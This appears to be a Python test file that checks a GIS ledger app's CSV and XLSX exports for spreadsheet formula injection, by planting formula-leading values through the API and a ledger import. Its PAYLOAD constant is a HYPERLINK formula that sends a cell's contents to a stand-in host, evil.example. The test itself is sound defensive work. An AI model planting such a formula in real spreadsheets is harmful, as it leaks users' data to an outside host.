"""No spreadsheet or CSV the app writes holds a formula (issue 16, point 3).

Each character a spreadsheet reads as the start of a formula (= + - @ tab CR |) is planted at
the start of every text field of a site, through the API and through a ledger import; then
every CSV and .xlsx the app writes is downloaded — the exports of sites and streets (en/zh,
open and personal), the ledger, the monthly summary, the ranking and the spot-check report —
and read back: no cell is a formula (openpyxl data type 'f', or an <f> element in the sheet
XML) and no text cell starts with a live character. The import reads the apostrophe back off.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from gis_app.core.cells import FORMULA_STARTS, is_live, neutralise, restore
from gis_app.features.ledger.models import Site
from tests.support.accounts import csrf
from tests.support.sites import site_payload

pytestmark = pytest.mark.slow

LEADS = ["=", "+", "-", "@", "\t", "\r", "|"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&T11,"详情")'
TEXT_FIELDS = ("code", "address", "community", "person_name", "person_contact", "note")


def test_neutralise_and_restore() -> None:
    for lead in FORMULA_STARTS:
        value = lead + "cmd"
        assert neutralise(value) == "'" + value
        assert restore(neutralise(value)) == value
    for plain in ("-3.5", "+8613800000000", "123", "大直沽", "", "a=b"):
        assert neutralise(plain) == plain
    assert restore("'abc") == "'abc"  # an apostrophe of one's own stays
    assert neutralise(None) is None and neutralise(3) == 3


def _plant_by_api(client) -> int:
    token = csrf(client)
    planted = 0
    for i, lead in enumerate(LEADS):
        body = site_payload(
            code=f"{lead}F{i}",
            address=f"{lead}{PAYLOAD}",
            community=f"{lead}社区{i}",
            person_name=f"{lead}姓名{i}",
            person_contact=f"{lead}1+1",
            note=f"{lead}{PAYLOAD}",
            lon=117.2381 + i * 0.0002,
        )
        response = client.post("/api/v1/sites", json=body, headers={"X-CSRF-Token": token})
        if response.status_code == 422 and response.get_json()["field"] == "code":
            body["code"] = f"F-API-{i}"  # a code the rules refuse is not stored at all
            response = client.post("/api/v1/sites", json=body, headers={"X-CSRF-Token": token})
        assert response.status_code == 201, response.text
        planted += 1
    return planted


def _plant_by_import(client) -> None:
    """A CSV ledger (in a CSV every value is text, as typed)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    header = ["编号", "地址", "社区", "经度", "纬度", "治理方式", "承诺期限", "相对人", "联系电话"]
    writer.writerow([*header, "备注"])
    for i, lead in enumerate(LEADS):
        writer.writerow(
            [
                f"F-IMP-{i}",
                f"{lead}{PAYLOAD}",
                f"{lead}导入社区{i}",
                117.2390 + i * 0.0002,
                39.1105,
                "拆除",
                "2026-09-30",
                f"{lead}导入姓名",
                f"{lead}2+2",
                f"{lead}{PAYLOAD}",
            ]
        )
    response = client.post(
        "/api/v1/sites/import",
        data={"file": (io.BytesIO(buffer.getvalue().encode()), "ledger.csv")},
        headers={"X-CSRF-Token": csrf(client)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 201, response.text


def _xlsx_problems(name: str, data: bytes) -> tuple[list[str], int]:
    problems: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/") and b"<f>" in archive.read(member):
                problems.append(f"{name}: a formula element in {member}")
    book = load_workbook(io.BytesIO(data))
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{name}: formula cell {sheet.title}!{cell.coordinate}")
                if isinstance(cell.value, str):
                    texts += 1
                    if is_live(cell.value):
                        problems.append(f"{name}: live text {cell.coordinate} {cell.value!r}")
    return problems, texts


def _csv_problems(name: str, data: bytes) -> tuple[list[str], int]:
    problems: list[str] = []
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    texts = 0
    for number, row in enumerate(rows, start=1):
        for value in row:
            texts += 1
            if is_live(value):
                problems.append(f"{name}: row {number} starts live: {value!r}")
    return problems, texts


def test_no_export_holds_a_formula(client, office, auth, connection) -> None:
    assert _plant_by_api(office) == len(LEADS)
    _plant_by_import(office)
    stored = connection.execute(select(Site.address).where(Site.code.like("F-IMP-%"))).scalars()
    # the import stores what was typed (the apostrophe of an export would be read back off)
    assert {a[0] for a in stored if a} >= {lead for lead in LEADS if lead.strip()}

    urls = [
        f"/api/v1/exports/{layer}.{fmt}?lang={lang}"
        for layer in ("sites", "sites-personal", "streets")
        for fmt in ("csv", "xlsx")
        for lang in ("en", "zh")
    ]
    urls += ["/exports/ledger.xlsx", "/exports/ranking.xlsx", "/exports/monthly.xlsx"]
    draw = office.post(
        "/api/v1/samples",
        json={"frame": {"status": "registered"}, "size_mode": "fixed", "n": 6, "seed": "16"},
        headers={"X-CSRF-Token": csrf(office)},
    )
    assert draw.status_code == 201, draw.text
    urls.append(f"/api/v1/samples/{draw.get_json()['id']}/report.xlsx")
    street_headers = auth.headers("fx.street", "street_officer", "120102002")

    problems: list[str] = []
    cells = 0
    found_planted = 0
    for url in urls:
        response = office.get(url)
        assert response.status_code == 200, (url, response.text[:300])
        data = response.get_data()
        check = _xlsx_problems if ".xlsx" in url else _csv_problems
        found, texts = check(url, data)
        problems += found
        cells += texts
        found_planted += data.count(b"'=HYPERLINK") + data.count(b"&apos;=HYPERLINK")
    street = client.get("/api/v1/exports/sites.xlsx", headers=street_headers)
    problems += _xlsx_problems("street sites.xlsx", street.get_data())[0]
    print(f"text cells read: {cells}, formula cells or live text: {len(problems)}")
    assert not problems, "\n".join(problems[:30])
    assert found_planted > 0  # the planted values are in the files, neutralised


def test_an_export_imports_back_with_its_values(office, connection) -> None:
    _plant_by_api(office)
    exported = office.get("/api/v1/exports/sites-personal.xlsx?lang=zh").get_data()
    before = dict(connection.execute(select(Site.code, Site.address)).all())
    connection.execute(
        update(Site).values(deleted_at=func.now(), deleted_reason="re-import")
    )  # the codes are free again
    response = office.post(
        "/api/v1/sites/import",
        data={"file": (io.BytesIO(exported), "back.xlsx")},
        headers={"X-CSRF-Token": csrf(office)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 201, response.text
    after = dict(
        connection.execute(select(Site.code, Site.address).where(Site.deleted_at.is_(None))).all()
    )
    assert after == before
